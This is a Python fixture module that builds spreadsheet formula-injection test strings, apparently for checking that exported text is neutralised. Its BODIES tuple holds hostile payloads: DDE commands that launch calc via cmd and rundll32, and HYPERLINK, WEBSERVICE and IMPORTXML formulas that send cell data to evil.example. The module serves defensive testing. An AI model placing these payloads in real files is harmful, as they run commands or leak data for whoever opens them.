"""Texts that spreadsheet programs like to compute, or to change: what people send, and what attackers do."""

from collections.abc import Iterator
from itertools import product

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "|=",
    "=-",
    "+-",
    "−",
    "﹢",
    "﹣",
    "﹦",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"Click")',
    'WEBSERVICE("http://evil.example/")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
)
BEFORE = ("", " ", "\u00a0", "\u200b", "\ufeff", "'", "''", "\u202e")
OTHERS = (
    "a plain name",
    "O'Brien & Sons <Ltd>",
    "'quoted'",
    "'",
    "''",
    "'=1+1",
    "''=1+1",
    "a,b;c|d",
    'say "yes", "no"',
    "line one\nline two",
    "http://example.org/?a=1&b=2",
    "mailto:someone@example.org",
    "file:///etc/passwd",
    "internal:'S'!A1",
    "\\\\server\\share",
    "{=1+1}",
    "_x0041_ stays",
    "_x000D_",
    "👩🏽‍⚕️ 病院 مستشفى בית חולים",
    "\u202eright to left",
    "e\u0301 is not é",
    "−12 with a typographer's minus",
    "№ 5 ½ ²",
    "<script>alert(1)</script>",
    "&amp;",
    "]]>",
    "{{7*7}}",
    "trailing space ",
    "TRUE story",
)  # fmt: skip
NUMBERS = ("0", "-12.5", "1200.50", "-0.000001", "123456789012345", "0.1", "-1", "99999999.99", "3")
WIDE_NUMBERS = ("12345678901234567890", "0.12345678901234567890", "9007199254740993")  # no double holds them


def texts() -> list[str]:
    return list(dict.fromkeys([*_computing(), *OTHERS]))


def _computing() -> Iterator[str]:
    yield from (before + start + body for before, start, body in product(BEFORE[:1], STARTS, BODIES))
    yield from (before + start + body for before, start, body in product(BEFORE[1:], STARTS, BODIES[:2]))
    yield from STARTS
